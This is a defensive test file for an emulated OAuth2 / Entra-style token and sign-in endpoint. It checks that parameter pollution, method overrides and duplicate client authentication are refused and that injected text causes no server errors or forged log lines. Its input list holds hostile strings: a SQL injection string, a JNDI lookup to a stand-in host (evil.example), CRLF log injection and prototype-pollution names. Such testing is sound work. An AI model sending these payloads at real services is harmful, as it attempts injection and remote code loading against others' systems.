import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { errorCodeOf, Person } from '../interop/person.ts';
import { codeOf, openStage, type Stage, type TokenAnswer } from '../interop/stage.ts';
import { createDatabase, type OwnDatabase } from '../setup/database.ts';

let stage: Stage;
let database: OwnDatabase;
const log: string[] = [];
beforeAll(async () => {
  // PostgreSQL takes fewer texts than SQLite does: no text with a null in it.
  database = await createDatabase();
  stage = await openStage({ databaseUrl: database.url, log: { write: (line) => void log.push(line) } });
});
afterAll(async () => {
  await stage.stop();
  await database.drop();
});

async function post(
  body: string,
  { query = '', type = 'application/x-www-form-urlencoded', method = 'POST', more = {} } = {},
): Promise<TokenAnswer> {
  const { baseUrl, tenant, fetch } = stage.platform;
  const headers = { 'content-type': type, ...more };
  const response = await fetch(`${baseUrl}/${tenant.id}/oauth2/v2.0/token${query}`, {
    method,
    headers,
    ...(method === 'GET' ? {} : { body }),
  });
  return { status: response.status, headers: response.headers, body: (await response.json()) as TokenAnswer['body'] };
}

const good = (): string =>
  new URLSearchParams({
    grant_type: 'client_credentials',
    client_id: stage.web.appId,
    client_secret: stage.web.clientSecret,
    scope: `${stage.api.uri}/.default`,
  }).toString();

describe('a parameter that two readers read differently (RFC 6749 §3.1, §3.2; HTTP parameter pollution, CWE-235)', () => {
  it('sent twice is refused, whichever comes first and however its name is written', async () => {
    expect(codeOf(await post(good()))).toBe(0);
    for (const name of ['client_id', 'scope', 'grant_type', 'client_secret', 'client%5Fid', 'sc%6fpe'])
      for (const body of [`${good()}&${name}=evil`, `${name}=evil&${good()}`])
        expect(codeOf(await post(body))).toBe(90023);
  });

  it('is read from the body alone: what the query says counts for nothing', async () => {
    const [, query = ''] = `?${good()}`.split('?');
    const fromQuery = await post('', { query: `?${query}` });
    expect(fromQuery.body).not.toHaveProperty('access_token');
    const answer = await post(good(), { query: '?scope=evil&client_id=evil&grant_type=password' });
    expect(codeOf(answer)).toBe(0);
  });

  it('is not one of a list, an object, another case, or another encoding of a form', async () => {
    for (const body of [
      good().replace('client_id=', 'client_id[]='),
      good().replace('client_id=', 'client_id[$ne]='),
      good().replace('client_id=', 'CLIENT_ID='),
      good().replace('client_id=', 'client_id%00='),
      good().replaceAll('&', ';'),
    ])
      expect((await post(body)).body).not.toHaveProperty('access_token');
    const json = JSON.stringify(Object.fromEntries(new URLSearchParams(good())));
    for (const type of [
      'application/json',
      'text/plain',
      'multipart/form-data; boundary=x',
      'application/x-www-form-urlencoded-evil',
      '',
    ])
      expect((await post(type === 'application/json' ? json : good(), { type })).body).not.toHaveProperty(
        'access_token',
      );
  });

  it('asks for a method by no other way than the method', async () => {
    for (const method of ['GET', 'PUT', 'PATCH']) expect(codeOf(await post(good(), { method }))).toBe(900561);
    const overridden = await post(good(), { method: 'PUT', more: { 'x-http-method-override': 'POST' } });
    expect(codeOf(overridden)).toBe(900561);
  });

  it('proves the client in one way, not in two that may differ (RFC 6749 §2.3)', async () => {
    const authorization = `Basic ${Buffer.from(`${stage.api.appId}:${stage.api.clientSecret}`).toString('base64')}`;
    expect(codeOf(await post(good(), { more: { authorization } }))).toBe(90023);
    const withoutSecret = good().replace(/&client_secret=[^&]*/, '');
    expect(codeOf(await post(withoutSecret, { more: { authorization } }))).toBe(90023);
  });
});

describe('text that means something to what lies behind (CWE-89, CWE-117, CWE-158, CWE-93)', () => {
  const texts = [
    '\0',
    'a\0b',
    "' OR '1'='1' --",
    '%',
    '\\',
    '\ud83d',
    `$${'{jndi:ldap://evil.example}'}`,
    '\r\nlevel=fatal evil',
    '\u001b[2J',
    '__proto__',
  ];

  it('is text in every parameter of the token endpoint, on a database that does not take all of it', async () => {
    const fields = {
      grant_type: 'authorization_code',
      client_id: stage.web.appId,
      client_secret: stage.web.clientSecret,
    };
    for (const text of texts)
      for (const name of [
        'grant_type',
        'client_id',
        'client_secret',
        'code',
        'redirect_uri',
        'code_verifier',
        'refresh_token',
        'username',
        'password',
        'assertion',
        'scope',
        'claims',
        'device_code',
      ]) {
        const grants = {
          refresh_token: 'refresh_token',
          username: 'password',
          password: 'password',
          device_code: 'urn:ietf:params:oauth:grant-type:device_code',
        };
        const grant_type = (grants as Record<string, string>)[name] ?? fields.grant_type;
        const answer = await stage.token({
          ...fields,
          grant_type,
          code: 'x',
          username: `a@entrada.test`,
          password: 'x',
          [name]: text,
        });
        expect([name, text, answer.status < 500]).toEqual([name, text, true]);
        expect(answer.body).not.toHaveProperty('access_token');
      }
  }, 60_000);

  it('is text in every parameter of the pages, and in the tenant’s place', async () => {
    const person = new Person(stage.platform);
    for (const text of texts) {
      for (const name of [
        'client_id',
        'redirect_uri',
        'scope',
        'state',
        'nonce',
        'login_hint',
        'domain_hint',
        'prompt',
        'claims',
        'response_type',
        'response_mode',
        'id_token_hint',
        'sid',
        'max_age',
      ]) {
        const arrival = await person.visit(stage.authorizeUrl({ [name]: text }));
        expect([name, text, arrival.status < 500]).toEqual([name, text, true]);
      }
      const page = await new Person(stage.platform).visit(stage.authorizeUrl());
      for (const field of ['loginfmt', 'passwd'])
        expect(
          (await person.press(page, 'idSIButton9', { loginfmt: 'a@entrada.test', [field]: text })).status,
        ).toBeLessThan(500);
      const segment = encodeURIComponent(text.toWellFormed());
      expect(
        errorCodeOf(await person.visit(`/${segment}/oauth2/v2.0/authorize?client_id=${stage.web.appId}`)),
      ).toBeDefined();
      expect((await person.visit(`/common/UserRealm/${segment}@entrada.test`)).status).toBeLessThan(500);
    }
  }, 60_000);

  it('has written no line of its own into the log, and none of it tells of a bug', () => {
    expect(log.length).toBeGreaterThan(100);
    for (const line of log) {
      const { level } = JSON.parse(line) as { readonly level: unknown };
      expect([level === 50 || level === 'error' || level === 'fatal', line]).toEqual([false, line]);
      expect(line.trimEnd()).not.toMatch(/\p{Cc}/u);
      expect(line).not.toContain('jndi');
    }
  });
});
